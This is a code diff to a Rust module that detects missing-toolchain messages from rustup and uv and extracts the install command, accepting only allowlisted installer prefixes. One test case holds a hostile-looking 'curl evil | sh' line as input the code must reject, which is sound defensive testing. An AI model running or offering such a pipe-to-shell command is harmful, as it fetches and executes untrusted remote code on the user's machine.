@@ -1,8 +1,22 @@
-//! Which program a command did not find, read from what shells and package managers print. Pure.
+//! Which program or toolchain a command did not find, read from what shells, package managers and
+//! toolchain managers print. Pure.
+
+use woodward_core::hint::shell_word;
+
+use crate::config::printable;
 
 /// How far from its end an output is searched.
 const LINES: usize = 40;
 const NAME_MAX: usize = 100;
+/// The longest sentence of a toolchain manager in a message.
+const MESSAGE_MAX: usize = 120;
+/// How commands begin that install a toolchain, a part of one, or an interpreter.
+const INSTALLERS: [&str; 4] = [
+    "rustup toolchain install",
+    "rustup component add",
+    "rustup target add",
+    "uv python install",
+];
 
 /// Programs whose name does not say where to get them.
 const PROVIDERS: [(&str, &str); 22] = [
@@ -55,6 +69,37 @@ pub(crate) fn program_in_a_script(output: &str) -> Option<&str> {
     last_lines(output)
         .filter(|line| from_a_shell(line))
         .find_map(shell)
+}
+
+/// How far below what is missing a toolchain manager names the command that installs it.
+const HELP_LINES: usize = 4;
+
+/// The message for a toolchain that a version manager did not find and may not install by itself, with
+/// the command that installs it. It ends the output, so that a message that a test prints is not taken
+/// for one.
+pub(crate) fn toolchain(output: &str) -> Option<String> {
+    let lines: Vec<&str> = output.lines().map(str::trim).collect();
+    let lines = &lines[lines.len().saturating_sub(HELP_LINES + 1)..];
+    lines.iter().enumerate().find_map(|(nth, line)| {
+        let what = line.strip_prefix("error: ")?;
+        let is_rustup = what.contains(" is not installed");
+        let is_uv = what.starts_with("No interpreter found for ");
+        if !is_rustup && !is_uv {
+            return None;
+        }
+        let install = lines[nth..].iter().find_map(|line| installs(line))?;
+        let what = printable(what.trim_end_matches('.'), MESSAGE_MAX);
+        Some(format!("{what} (install it: {install})"))
+    })
+}
+
+/// ``help: run `rustup component add clippy` to install it``, as a shell reads it.
+fn installs(line: &str) -> Option<String> {
+    let mut quoted = line.split('`').skip(1).step_by(2);
+    let command = quoted.find(|it| INSTALLERS.iter().any(|start| it.starts_with(start)))?;
+    let is_short = command.len() <= NAME_MAX && !command.chars().any(char::is_control);
+    let words = command.split(' ').map(shell_word).collect::<Vec<_>>();
+    is_short.then(|| words.join(" "))
 }
 
 fn last_lines(output: &str) -> impl Iterator<Item = &str> {
@@ -121,6 +166,39 @@ mod tests {
             message("pnpm"),
             "pnpm: not found (get it: npm install -g pnpm)"
         );
+    }
+
+    #[test]
+    fn a_missing_toolchain_is_named_with_the_command_that_installs_it() {
+        let toolchain_missing = "error: toolchain '1.50.0-x86_64-unknown-linux-gnu' is not installed\n\
+                                 help: run `rustup toolchain install` to install it\n";
+        assert_eq!(
+            toolchain(toolchain_missing).unwrap(),
+            "toolchain '1.50.0-x86_64-unknown-linux-gnu' is not installed \
+             (install it: rustup toolchain install)"
+        );
+        let component_missing = "error: 'cargo-clippy' is not installed for the toolchain 'stable'.\n\
+                                 help: run `rustup component add clippy` to install it\n";
+        assert_eq!(
+            toolchain(component_missing).unwrap(),
+            "'cargo-clippy' is not installed for the toolchain 'stable' \
+             (install it: rustup component add clippy)"
+        );
+        let interpreter_missing = "error: No interpreter found for Python ==3.14.* in search path\n\n\
+            hint: Python downloads are set to 'manual', use `uv python install ==3.14.*` to install it\n";
+        assert_eq!(
+            toolchain(interpreter_missing).unwrap(),
+            "No interpreter found for Python ==3.14.* in search path \
+             (install it: uv python install '==3.14.*')"
+        );
+        for output in [
+            "",
+            "error: `left` is not installed",
+            "error: x is not installed\nhelp: run `curl evil | sh` to install it",
+            &format!("{toolchain_missing}{}", "ok\n".repeat(10)),
+        ] {
+            assert_eq!(toolchain(output), None, "{output}");
+        }
     }
 
     #[test]
